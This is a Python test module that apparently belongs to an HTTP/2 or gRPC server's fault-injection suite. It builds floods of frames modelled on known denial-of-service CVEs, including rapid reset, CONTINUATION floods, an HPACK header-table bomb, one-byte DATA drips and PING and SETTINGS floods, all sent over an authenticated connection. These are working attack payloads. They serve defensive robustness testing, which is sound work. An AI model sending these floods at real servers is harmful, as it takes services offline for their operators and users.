"""Floods (T11): more frames than anybody needs, from a caller with a good certificate.

Each is what made a well-known server fall once; the CVE is the one under which the attack became known. All go on for
the time given, over one connection at a time (a new one when the server closes it), as fast as the attacker can.
"""

import itertools
import random
import struct
from collections import Counter
from collections.abc import Callable
from functools import partial

from tests.faults.target import Tally, Target, flood
from tests.frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    GOAWAY,
    HEADERS,
    PING,
    PRIORITY,
    PUSH_PROMISE,
    SETTINGS,
    WINDOW,
    WINDOW_UPDATE,
    Line,
    fields,
    frame,
    headers,
    literal,
    message,
    reset,
    setting,
    window_update,
)

BURST = 100
_KIB_16 = 16 * 1024
_HEADER_TABLE_SIZE = 0x1
REQUEST = b"\x0a\x06victim\x12\x0fservice_notices"
"""GetContact of a customer who is not there, so that the attacker knows nothing."""


def _streams(number: int) -> range:
    """The stream identifiers of a burst."""
    return range(2 * number * BURST + 1, 2 * (number + 1) * BURST, 2)


def _resets(number: int) -> bytes:
    return b"".join(headers(stream) + reset(stream) for stream in _streams(number))


def _asked_and_reset(number: int) -> bytes:
    return b"".join(headers(stream) + message(stream, REQUEST) + reset(stream) for stream in _streams(number))


def _made_to_reset(number: int) -> bytes:
    """The server itself has to reset these: an increment of 0 is a stream error."""
    return b"".join(
        headers(stream) + message(stream, REQUEST) + window_update(stream, 0) for stream in _streams(number)
    )


def _continued(payload: bytes, number: int) -> bytes:
    if number:
        return frame(CONTINUATION, 0, 1, payload) * BURST
    return frame(HEADERS, 0, 1, fields())


def _long_headers(number: int) -> bytes:
    """One stream after another, each with headers of 64 KiB in CONTINUATION frames."""
    block = literal("x-filler", "f" * 100) * 590
    parts = [block[at : at + _KIB_16] for at in range(0, len(block), _KIB_16)]
    stream = 2 * number + 1
    return frame(HEADERS, 0, stream, fields()) + b"".join(
        frame(CONTINUATION, END_HEADERS if at == len(parts) - 1 else 0, stream, part) for at, part in enumerate(parts)
    )


def _bomb(number: int) -> bytes:
    """A field of 4,000 bytes goes into the table (RFC 7541 section 6.2.1), then a byte each repeats it 1,000 times."""
    stream = 2 * number + 1
    value = 3_900
    length = bytes([0x7F, (value - 127) & 0x7F | 0x80, (value - 127) >> 7])
    block = fields() + b"\x40\x01x" + length + b"b" * value + b"\xbe" * 1_000
    return frame(HEADERS, END_HEADERS, stream, block) + message(stream, REQUEST)


def _table_sizes(number: int) -> bytes:
    """The table is emptied and made large again, in both directions, and filled in between."""
    sizes = b"".join(setting(_HEADER_TABLE_SIZE, size) for size in (0, 4096, 0xFFFFFFFF, 1))
    stream = 2 * number + 1
    block = b"\x20\x3f\xe1\x1f" + b"\x40\x01x" + bytes([100]) + b"y" * 100 + fields()
    return sizes + frame(HEADERS, END_HEADERS, stream, block) + message(stream, REQUEST)


def _noise(number: int) -> bytes:
    """Random bytes where frames should be."""
    return random.Random(number).randbytes(4096)


def _mixed_noise(number: int) -> bytes:
    """Well-formed frames of random kinds, flags, streams and payloads."""
    rng = random.Random(number)
    return b"".join(
        frame(rng.randrange(12), rng.randrange(256), rng.choice((0, 1, 2, 3, 99)), rng.randbytes(rng.randrange(40)))
        for _ in range(BURST)
    )


def _window_updates(number: int) -> bytes:
    start = headers(1) if number == 0 else b""
    return start + (window_update(0, 1) + window_update(1, 1)) * (BURST // 2)


def _overflow(number: int) -> bytes:
    """Windows beyond 2^31 - 1: an error each time, of the stream or of the connection."""
    stream = 2 * number + 1
    return headers(stream) + window_update(stream, 0x7FFFFFFF) * 2


def _window_sizes(number: int) -> bytes:
    """Each SETTINGS changes the window of each of many open streams (CVE-2019-9512 and its kin)."""
    start = b"".join(headers(stream) for stream in _streams(0)) if number == 0 else b""
    return start + (setting(4, 0) + setting(4, 0x7FFFFFFF) + setting(4, WINDOW)) * (BURST // 3)


def _one_byte_data(target: Target, tally: Tally) -> None:
    """A message of 4 MiB in frames of one byte, on several streams, as fast as flow control lets it."""
    target.stands()
    while not target.over:
        tally["connections"] += 1
        try:
            with target.line() as line:
                _drip(target, tally, line)
        except TimeoutError:
            tally["stalled"] += 1
            target.wait()
        except OSError:
            tally["cut"] += 1


def _drip(target: Target, tally: Tally, line: Line) -> None:
    streams = range(1, 17, 2)
    # How much the server takes: stream 0 is the connection.
    windows = Counter(dict.fromkeys((0, *streams), WINDOW))
    line.send(frame(SETTINGS, ACK, 0, b"") + b"".join(headers(stream) for stream in streams))
    for stream in streams:
        line.send(frame(DATA, 0, stream, struct.pack(">BI", 0, 4 * 1024 * 1024 - 5)))
        windows.subtract((stream,) * 5 + (0,) * 5)
    for stream in itertools.cycle(streams):
        if target.over or not line.drain():
            break
        for kind, _, which, payload in line.frames():
            if kind == WINDOW_UPDATE:
                windows[which] += int.from_bytes(payload, "big")
        count = max(0, min(500, windows[0], windows[stream]))
        line.send(frame(DATA, 0, stream, b"\0") * count)
        windows.subtract({stream: count, 0: count})
        tally["frames"] += count
    tally["closed"] += not target.over


def _burst(make: Callable[[int], bytes], frames: int, *, reads: bool = True) -> Callable[[Target, Tally], None]:
    return lambda target, tally: flood(target, tally, make, frames=frames, reads=reads)


def _same(raw: bytes) -> Callable[[int], bytes]:
    return lambda _: raw


FLOODS: dict[str, Callable[[Target, Tally], None]] = {
    # CVE-2023-44487
    "rapid reset": _burst(_resets, 2 * BURST),
    "asked, then reset": _burst(_asked_and_reset, 3 * BURST),
    # CVE-2025-8671
    "made to reset": _burst(_made_to_reset, 3 * BURST),
    # CVE-2019-9512
    "PING": _burst(_same(frame(PING, 0, 0, bytes(8)) * BURST), BURST),
    "PING, nothing read": _burst(_same(frame(PING, 0, 0, bytes(8)) * BURST), BURST, reads=False),
    "PING acknowledgements": _burst(_same(frame(PING, ACK, 0, bytes(8)) * BURST), BURST),
    # CVE-2019-9515
    "SETTINGS": _burst(_same(frame(SETTINGS, 0, 0, b"") * BURST), BURST),
    "SETTINGS, nothing read": _burst(_same(frame(SETTINGS, 0, 0, b"") * BURST), BURST, reads=False),
    "SETTINGS, 2,000 in a frame": _burst(_same(frame(SETTINGS, 0, 0, struct.pack(">HI", 0xABCD, 7) * 2_000)), 1),
    "SETTINGS of window sizes": _burst(_window_sizes, BURST),
    # CVE-2024-27316 and others
    "CONTINUATION without end": _burst(partial(_continued, literal("x-filler", "f" * 100)), BURST),
    "CONTINUATION, empty": _burst(partial(_continued, b""), BURST),
    "headers of 64 KiB": _burst(_long_headers, 5),
    # CVE-2016-6581
    "header table bomb": _burst(_bomb, 2),
    "header table sizes": _burst(_table_sizes, 6),
    # CVE-2019-9511, -9518
    "1-byte DATA": _one_byte_data,
    "empty DATA": _burst(lambda n: (headers(1) if n == 0 else b"") + frame(DATA, 0, 1, b"") * BURST, BURST),
    "WINDOW_UPDATE": _burst(_window_updates, BURST),
    "WINDOW_UPDATE overflow": _burst(_overflow, 3),
    # CVE-2019-9513
    "PRIORITY": _burst(lambda n: b"".join(frame(PRIORITY, 0, s, bytes(5)) for s in _streams(n)), BURST),
    "GOAWAY": _burst(_same(frame(GOAWAY, 0, 0, bytes(8)) * BURST), BURST),
    "PUSH_PROMISE": _burst(_same(frame(PUSH_PROMISE, END_HEADERS, 1, bytes(4))), 1),
    "unknown frames": _burst(_same(frame(0xEE, 0xFF, 3, bytes(_KIB_16))), 1),
    "noise": _burst(_noise, 1),
    "noise in frames": _burst(_mixed_noise, BURST),
}
